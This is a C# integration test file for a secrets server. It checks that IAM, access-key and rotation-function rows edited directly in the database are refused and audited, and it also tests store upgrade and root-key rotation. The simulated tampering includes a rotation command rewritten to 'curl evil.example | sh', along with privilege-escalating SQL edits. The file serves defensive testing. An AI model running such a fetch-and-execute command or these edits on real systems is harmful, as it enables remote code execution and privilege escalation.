using System.Data.Common;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Microsoft.Data.Sqlite;
using Npgsql;
using Strongroom.Core.Identity;
using Strongroom.Crypto;
using Strongroom.Storage.Tests;
using Xunit;

namespace Strongroom.Tests;

/// <summary>
/// Issue #25 finding 7, against real server processes on both stores: someone who can write the database but does not
/// hold the root key edits IAM, access-key and rotation-function rows directly with SQL — and the server refuses every
/// edited row, records the refusal in the audit trail and the log, and keeps serving the rows nobody touched. Also the
/// upgrade of a store written before the rows were protected, and root-key rotation re-tagging them.
/// </summary>
[Collection("processes")]
public sealed partial class IamIntegrityTests : IClassFixture<PostgresServer>, IDisposable
{
    private const string Crown = "crown-jewels-0b7c";
    private readonly PostgresServer _postgres;
    private readonly string _dir = Directory.CreateTempSubdirectory("sr-integrity-").FullName;

    public IamIntegrityTests(PostgresServer postgres) => _postgres = postgres;

    public void Dispose() => Directory.Delete(_dir, true);

    private string DataDir => Path.Combine(_dir, "data");

    /// <summary>One store under test: how to start the server on it and how to reach its rows directly.</summary>
    private sealed class Target(string dataDir, string? postgres)
    {
        public string DataDir { get; } = dataDir;

        public Dictionary<string, string>? Environment { get; } = postgres is null ? null : ServerProcess.PostgresEnvironment(postgres);

        public Task<ServerProcess> StartAsync() => ServerProcess.StartAsync(DataDir, environment: Environment);

        public Task<(int ExitCode, string Output)> RunAsync(params string[] args) => ServerProcess.RunWithEnvironmentAsync(Environment, args);

        public TestSigner Admin(ServerProcess server) => TestSigner.FromCredentialsFile(server.Endpoint, Path.Combine(DataDir, "admin.credentials"));

        private DbConnection Open()
        {
            DbConnection connection = postgres is null ? new SqliteConnection($"Data Source={Path.Combine(DataDir, "strongroom.db")};Pooling=False") : new NpgsqlConnection(postgres);
            connection.Open();
            return connection;
        }

        private static DbCommand Command(DbConnection connection, string sql, object?[] values)
        {
            var command = connection.CreateCommand();
            command.CommandText = sql;
            for (var i = 0; i < values.Length; i++)
            {
                var parameter = command.CreateParameter();
                parameter.ParameterName = "p" + i.ToString(System.Globalization.CultureInfo.InvariantCulture);
                parameter.Value = values[i] ?? DBNull.Value;
                command.Parameters.Add(parameter);
            }

            return command;
        }

        /// <summary>Runs SQL with parameters @p0, @p1 …; returns the rows changed.</summary>
        public int Execute(string sql, params object?[] values)
        {
            using var connection = Open();
            using var command = Command(connection, sql, values);
            return command.ExecuteNonQuery();
        }

        public List<object?[]> Query(string sql, params object?[] values)
        {
            using var connection = Open();
            using var command = Command(connection, sql, values);
            using var reader = command.ExecuteReader();
            var rows = new List<object?[]>();
            while (reader.Read())
            {
                var row = new object?[reader.FieldCount];
                for (var i = 0; i < row.Length; i++)
                {
                    row[i] = reader.IsDBNull(i) ? null : reader.GetValue(i);
                }

                rows.Add(row);
            }

            return rows;
        }

        public string UserJson(string name) => (string)Query("SELECT json FROM iam_entities WHERE kind = 'user' AND name = @p0", name).Single()[0]!;
    }

    private Target NewTarget(string storage) => new(DataDir, storage == "postgres" ? _postgres.CreateDatabase() : null);

    private static Dictionary<string, string> Form(string action, params (string Key, string Value)[] parameters)
    {
        var form = new Dictionary<string, string> { ["Action"] = action, ["Version"] = "2010-05-08" };
        foreach (var (key, value) in parameters)
        {
            form[key] = value;
        }

        return form;
    }

    private static async Task<string> IamAsync(TestSigner signer, string action, params (string Key, string Value)[] parameters)
    {
        var (status, body) = await signer.QueryAsync("iam", Form(action, parameters));
        Assert.True(status == 200, $"{action}: {status} {body}");
        return body;
    }

    private static string Element(string xml, string name) => Regex.Match(xml, $"<{name}>([^<]+)</{name}>").Groups[1].Value;

    /// <summary>Creates a user with an access key (and an inline policy when given); returns the key.</summary>
    private static async Task<Key> UserAsync(TestSigner admin, string name, string? policy = null)
    {
        await IamAsync(admin, "CreateUser", ("UserName", name));
        if (policy is not null)
        {
            await IamAsync(admin, "PutUserPolicy", ("UserName", name), ("PolicyName", "inline"), ("PolicyDocument", policy));
        }

        var key = await IamAsync(admin, "CreateAccessKey", ("UserName", name));
        return new Key(Element(key, "AccessKeyId"), Element(key, "SecretAccessKey"));
    }

    /// <summary>An access key and its secret, to sign with against whichever server process runs now.</summary>
    private sealed record Key(string Id, string Secret)
    {
        public TestSigner On(ServerProcess server) => new(server.Endpoint, Id, Secret);
    }

    private static string Allow(string action, string resource) =>
        $$"""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"{{action}}","Resource":"{{resource}}"}]}""";

    private static async Task<(int Status, string What)> ReadCrownAsync(TestSigner signer)
    {
        var (status, body) = await signer.CallAsync("GetSecretValue", new { SecretId = "crown" });
        return (status, status == 200 ? body.GetProperty("SecretString").GetString()! : body.GetProperty("__type").GetString()!);
    }

    private static async Task<string> CallerArnAsync(TestSigner signer)
    {
        var (status, body) = await signer.QueryAsync("sts", new Dictionary<string, string> { ["Action"] = "GetCallerIdentity", ["Version"] = "2011-06-15" });
        return status == 200 ? Element(body, "Arn") : $"{status}:{Element(body, "Code")}";
    }

    [Theory]
    [InlineData("sqlite")]
    [InlineData("postgres")]
    public async Task RowsEditedWithoutTheRootKey_AreRefusedAndAudited_UntouchedRowsStillServe(string storage)
    {
        var target = NewTarget(storage);
        string adminId;
        Key alice, mallory, eve, trudy, bob, carol;
        await using (var server = await target.StartAsync())
        {
            using var admin = target.Admin(server);
            Assert.Equal(200, (await admin.CallAsync("CreateSecret", new { Name = "crown", SecretString = Crown, ClientRequestToken = Guid.NewGuid().ToString() })).Status);
            var readCrown = Allow("secretsmanager:GetSecretValue", "arn:aws:secretsmanager:*:*:secret:crown-*");
            alice = await UserAsync(admin, "alice", readCrown);
            mallory = await UserAsync(admin, "mallory");
            eve = await UserAsync(admin, "eve");
            trudy = await UserAsync(admin, "trudy");
            bob = await UserAsync(admin, "bob");
            await IamAsync(admin, "CreateGroup", ("GroupName", "team"));
            await IamAsync(admin, "AddUserToGroup", ("GroupName", "team"), ("UserName", "bob"));
            carol = await UserAsync(admin, "carol", Allow("*", "*"));
            var deny = await IamAsync(admin, "CreatePolicy", ("PolicyName", "no-crown"), ("PolicyDocument", readCrown.Replace("Allow", "Deny", StringComparison.Ordinal)));
            await IamAsync(admin, "AttachUserPolicy", ("UserName", "carol"), ("PolicyArn", Element(deny, "Arn")));
            Assert.Equal(200, (await admin.CallAsync("strongroom", "CreateRotationFunction", new { Name = "fn", Command = "/bin/true" }, CancellationToken.None)).Status);
            using (var a = alice.On(server))
            using (var c = carol.On(server))
            using (var m = mallory.On(server))
            using (var b = bob.On(server))
            {
                Assert.Equal((200, Crown), await ReadCrownAsync(a));
                Assert.Equal((400, "AccessDeniedException"), await ReadCrownAsync(c));
                Assert.Equal((400, "AccessDeniedException"), await ReadCrownAsync(m));
                Assert.Equal((400, "AccessDeniedException"), await ReadCrownAsync(b));
            }

            adminId = Element(await IamAsync(admin, "GetUser", ("UserName", "admin")), "UserId");
            Assert.StartsWith("AIDA", adminId, StringComparison.Ordinal);
            Assert.Equal(0, await server.TerminateAsync());
        }

        var adminArn = (string)target.Query("SELECT principal_arn FROM access_keys WHERE user_name = 'admin'")[0][0]!;
        var adminRow = target.Query("SELECT json, mac FROM iam_entities WHERE kind = 'user' AND name = 'admin'").Single();

        // a. Mallory's key made the admin's: its user, ARN and principal id (all readable in the database) changed.
        Assert.Equal(1, target.Execute("UPDATE access_keys SET user_name = 'admin', principal_arn = @p0, principal_id = @p1 WHERE access_key_id = @p2", adminArn, adminId, mallory.Id));
        // b. Eve's user row given an Allow * policy.
        var eveJson = JsonNode.Parse(target.UserJson("eve"))!;
        eveJson["InlinePolicies"]!["all"] = Allow("*", "*");
        Assert.Equal(1, target.Execute("UPDATE iam_entities SET json = @p0 WHERE kind = 'user' AND name = 'eve'", eveJson.ToJsonString()));
        // c. Trudy's row replaced by the admin's row, tag and all (a tag binds its row's kind and name).
        Assert.Equal(1, target.Execute("UPDATE iam_entities SET json = @p0, mac = @p1 WHERE kind = 'user' AND name = 'trudy'", adminRow[0], adminRow[1]));
        // d. The group Bob is in given an Allow * policy.
        var team = JsonNode.Parse((string)target.Query("SELECT json FROM iam_entities WHERE kind = 'group' AND name = 'team'").Single()[0]!)!;
        team["InlinePolicies"]!["all"] = Allow("*", "*");
        Assert.Equal(1, target.Execute("UPDATE iam_entities SET json = @p0 WHERE kind = 'group' AND name = 'team'", team.ToJsonString()));
        // e. The managed Deny attached to Carol removed.
        Assert.Equal(1, target.Execute("DELETE FROM iam_entities WHERE kind = 'policy' AND name = 'no-crown'"));
        // f. The rotation function pointed at another command.
        var fn = (string)target.Query("SELECT json FROM iam_entities WHERE kind = 'rotation-function'").Single()[0]!;
        Assert.Equal(1, target.Execute("UPDATE iam_entities SET json = @p0 WHERE kind = 'rotation-function'", fn.Replace("/bin/true", "/bin/sh -c 'curl evil.example | sh'", StringComparison.Ordinal)));

        await using (var server = await target.StartAsync())
        {
            using var admin = target.Admin(server);

            // Refused at authentication, even signed with the right secret: the key row (a), or its user's row (b, c), fails its check.
            foreach (var (who, key) in new[] { ("mallory", mallory), ("eve", eve), ("trudy", trudy) })
            {
                using var signer = key.On(server);
                var read = await ReadCrownAsync(signer);
                Assert.Equal((who, 400, "UnrecognizedClientException"), (who, read.Status, read.What));
                Assert.Equal((who, "403:InvalidClientTokenId"), (who, await CallerArnAsync(signer)));
            }

            // Refused while compiling policies: the group's row (d) fails its check, the attached Deny (e) is gone.
            foreach (var (who, key) in new[] { ("bob", bob), ("carol", carol) })
            {
                using var signer = key.On(server);
                var read = await ReadCrownAsync(signer);
                Assert.Equal((who, 500, "InternalServiceError"), (who, read.Status, read.What));
            }

            // (f): the function is refused, never handed to a runner.
            var (fnStatus, fnBody) = await admin.CallAsync("strongroom", "GetRotationFunction", new { Name = "fn" }, CancellationToken.None);
            Assert.Equal(500, fnStatus);
            Assert.Contains("integrity check", fnBody.GetProperty("Message").GetString(), StringComparison.Ordinal);
            Assert.DoesNotContain("evil", fnBody.ToString(), StringComparison.Ordinal);

            // Rows nobody touched still serve; listings leave refused rows out.
            using (var a = alice.On(server))
            {
                Assert.Equal((200, Crown), await ReadCrownAsync(a));
            }

            Assert.Equal((200, Crown), await ReadCrownAsync(admin));
            var users = await IamAsync(admin, "ListUsers");
            Assert.Contains("<UserName>alice</UserName>", users, StringComparison.Ordinal);
            Assert.DoesNotContain("<UserName>eve</UserName>", users, StringComparison.Ordinal);
            Assert.DoesNotContain("<UserName>trudy</UserName>", users, StringComparison.Ordinal);
            Assert.Equal(adminArn, Element(await IamAsync(admin, "GetUser"), "Arn"));
            Assert.Equal(0, await server.TerminateAsync());

            Assert.Contains("\"EventId\":7001", server.Output, StringComparison.Ordinal);
            Assert.Contains("access_keys " + mallory.Id, server.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(Crown, server.Output, StringComparison.Ordinal);
            Assert.DoesNotContain(mallory.Secret, server.Output, StringComparison.Ordinal);
        }

        var (code, trail) = await target.RunAsync("audit", "export", "--data-dir", target.DataDir);
        Assert.True(code == 0, trail);
        var refused = trail.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement)
            .Where(r => r.GetProperty("eventName").GetString() == "RecordIntegrityCheckFailed")
            .Select(r => r.GetProperty("serviceEventDetails").GetProperty("row").GetString()!)
            .ToList();
        Assert.Contains(mallory.Id, refused);
        Assert.Contains("user/eve", refused);
        Assert.Contains("user/trudy", refused);
        Assert.Contains("group/team", refused);
        Assert.Contains(refused, r => r.StartsWith("policy/arn:aws:iam::", StringComparison.Ordinal) && r.Contains("no-crown", StringComparison.Ordinal));
        Assert.Contains("rotation-function/us-east-1/fn", refused);
        Assert.DoesNotContain(Crown, trail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("sqlite")]
    [InlineData("postgres")]
    public async Task StoreWrittenBeforeProtection_UpgradesAtStart_AdminByIdAndARenamedSquatterDemoted(string storage)
    {
        var target = NewTarget(storage);
        Key alice, mallory;
        await using (var server = await target.StartAsync())
        {
            using var admin = target.Admin(server);
            Assert.Equal(200, (await admin.CallAsync("CreateSecret", new { Name = "crown", SecretString = Crown, ClientRequestToken = Guid.NewGuid().ToString() })).Status);
            await IamAsync(admin, "CreateGroup", ("GroupName", "readers"));
            await IamAsync(admin, "PutGroupPolicy", ("GroupName", "readers"), ("PolicyName", "read"), ("PolicyDocument", Allow("secretsmanager:GetSecretValue", "*")));
            alice = await UserAsync(admin, "alice");
            await IamAsync(admin, "AddUserToGroup", ("GroupName", "readers"), ("UserName", "alice"));
            mallory = await UserAsync(admin, "mallory");
            Assert.Equal(0, await server.TerminateAsync());
        }

        // Make the store what a build before issue #25 left: no tags, secrets wrapped under "access-key:<id>" only, no
        // administrator user or record — and Mallory, who renamed herself "admin" then (her keys moved with her).
        using (var root = new FileRootKeyProvider(Path.Combine(target.DataDir, "root.key")).Load())
        {
            foreach (var row in target.Query("SELECT access_key_id, wrapped_secret, principal_id, principal_arn FROM access_keys"))
            {
                var (id, arn) = ((string)row[0]!, (string)row[3]!);
                var secret = WrappedKey.Unwrap(root, (byte[])row[1]!, IamRecords.AccessKeyBinding(id, (string)row[2]!, arn));
                target.Execute("UPDATE access_keys SET wrapped_secret = @p0, principal_id = NULL, mac = NULL WHERE access_key_id = @p1", WrappedKey.Wrap(root, secret, "access-key:" + id), id);
            }
        }

        var adminArn = (string)target.Query("SELECT principal_arn FROM access_keys WHERE user_name = 'admin'")[0][0]!;
        target.Execute("UPDATE iam_entities SET mac = NULL");
        target.Execute("DELETE FROM iam_entities WHERE kind = 'user' AND name = 'admin'");
        target.Execute("DELETE FROM root_wrapped WHERE name = 'admin-principal'");
        target.Execute("DELETE FROM settings WHERE key = 'admin_user_id'");
        var squatter = JsonNode.Parse(target.UserJson("mallory"))!;
        var malloryId = (string)squatter["UserId"]!;
        squatter["Name"] = "admin";
        squatter["Arn"] = adminArn;
        target.Execute("DELETE FROM iam_entities WHERE kind = 'user' AND name = 'mallory'");
        target.Execute("INSERT INTO iam_entities (kind, name, json) VALUES ('user', 'admin', @p0)", squatter.ToJsonString());
        target.Execute("UPDATE access_keys SET user_name = 'admin', principal_arn = @p0 WHERE user_name = 'mallory'", adminArn);
        // An older build also let a user be named "Admin" (only "admin" was refused).
        var capital = JsonNode.Parse(target.UserJson("alice"))!;
        capital["Name"] = "Admin";
        capital["UserId"] = "AIDACAPITALADMIN0000";
        capital["Arn"] = adminArn.Replace("user/admin", "user/Admin", StringComparison.Ordinal);
        capital["Groups"] = new JsonArray();
        target.Execute("INSERT INTO iam_entities (kind, name, json) VALUES ('user', 'Admin', @p0)", capital.ToJsonString());

        string adminId;
        await using (var server = await target.StartAsync())
        {
            Assert.Contains("\"EventId\":7002", server.Output, StringComparison.Ordinal);
            Assert.Contains("renamed admin-renamed-" + malloryId, server.Output, StringComparison.Ordinal);
            Assert.Contains(mallory.Id, server.Output, StringComparison.Ordinal);
            using var admin = target.Admin(server);
            var adminUser = await IamAsync(admin, "GetUser", ("UserName", "admin"));
            adminId = Element(adminUser, "UserId");
            Assert.StartsWith("AIDA", adminId, StringComparison.Ordinal);
            Assert.NotEqual(malloryId, adminId);
            Assert.Equal(adminArn, await CallerArnAsync(admin));
            Assert.Equal((200, Crown), await ReadCrownAsync(admin));

            // Mallory's key works again — as the ordinary user she is, under the name she was moved to.
            using (var m = mallory.On(server))
            {
                Assert.EndsWith(":user/admin-renamed-" + malloryId, await CallerArnAsync(m), StringComparison.Ordinal);
                Assert.Equal((400, "AccessDeniedException"), await ReadCrownAsync(m));
            }

            using (var a = alice.On(server))
            {
                Assert.Equal((200, Crown), await ReadCrownAsync(a));
            }

            // "Admin" keeps its name but cannot take the administrator's, even by changing case only.
            var (renameStatus, renameBody) = await admin.QueryAsync("iam", Form("UpdateUser", ("UserName", "Admin"), ("NewUserName", "admin")));
            Assert.True(renameStatus == 409, renameBody);
            Assert.Equal("EntityAlreadyExists", Element(renameBody, "Code"));
            Assert.Equal(adminId, Element(await IamAsync(admin, "GetUser", ("UserName", "admin")), "UserId"));
            Assert.Equal(0, await server.TerminateAsync());
        }

        Assert.Empty(target.Query("SELECT kind, name FROM iam_entities WHERE mac IS NULL"));
        Assert.Empty(target.Query("SELECT access_key_id FROM access_keys WHERE mac IS NULL OR principal_id IS NULL"));
        Assert.Equal(adminId, (string)target.Query("SELECT value FROM settings WHERE key = 'admin_user_id'").Single()[0]!);

        // Once: a second start has nothing to upgrade.
        await using (var server = await target.StartAsync())
        {
            Assert.DoesNotContain("\"EventId\":7002", server.Output, StringComparison.Ordinal);
            using var admin = target.Admin(server);
            Assert.Equal(adminId, Element(await IamAsync(admin, "GetUser"), "UserId"));
            Assert.Equal(0, await server.TerminateAsync());
        }

        // The administrator's record removed from an upgraded store: refused, not silently re-created for whoever holds "admin" keys.
        target.Execute("DELETE FROM root_wrapped WHERE name = 'admin-principal'");
        var (code, output) = await target.RunAsync("server", "--data-dir", target.DataDir, "--listen", $"127.0.0.1:{ServerProcess.FreePort()}");
        Assert.Equal(1, code);
        Assert.Contains("Restore it from a backup", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task RootKeyRotation_RetagsIntactRows_AndAlteredOnesStayRefused()
    {
        var target = NewTarget("sqlite");
        Key alice, eve;
        await using (var server = await target.StartAsync())
        {
            using var admin = target.Admin(server);
            Assert.Equal(200, (await admin.CallAsync("CreateSecret", new { Name = "crown", SecretString = Crown, ClientRequestToken = Guid.NewGuid().ToString() })).Status);
            alice = await UserAsync(admin, "alice", Allow("secretsmanager:GetSecretValue", "*"));
            eve = await UserAsync(admin, "eve");
            Assert.Equal(200, (await admin.CallAsync("strongroom", "CreateRotationFunction", new { Name = "fn", Command = "/bin/true" }, CancellationToken.None)).Status);
            Assert.Equal(0, await server.TerminateAsync());
        }

        var eveJson = JsonNode.Parse(target.UserJson("eve"))!;
        eveJson["InlinePolicies"]!["all"] = Allow("*", "*");
        target.Execute("UPDATE iam_entities SET json = @p0 WHERE kind = 'user' AND name = 'eve'", eveJson.ToJsonString());
        var before = target.Query("SELECT kind, name, mac FROM iam_entities").ToDictionary(r => (string)r[0]! + "/" + (string)r[1]!, r => (byte[])r[2]!);

        var (code, output) = await target.RunAsync("admin", "rotate-root-key", "--data-dir", target.DataDir);
        Assert.True(code == 0, output);
        var after = target.Query("SELECT kind, name, mac FROM iam_entities").ToDictionary(r => (string)r[0]! + "/" + (string)r[1]!, r => (byte[])r[2]!);
        Assert.NotEqual(before["user/alice"], after["user/alice"]);
        Assert.Equal(before["user/eve"], after["user/eve"]);

        await using (var server = await target.StartAsync())
        {
            using var admin = target.Admin(server);
            Assert.Equal((200, Crown), await ReadCrownAsync(admin));
            using (var a = alice.On(server))
            {
                Assert.Equal((200, Crown), await ReadCrownAsync(a));
            }

            using (var e = eve.On(server))
            {
                Assert.Equal((400, "UnrecognizedClientException"), await ReadCrownAsync(e));
            }

            Assert.Equal(200, (await admin.CallAsync("strongroom", "GetRotationFunction", new { Name = "fn" }, CancellationToken.None)).Status);
            Assert.Equal(0, await server.TerminateAsync());
        }
    }
}
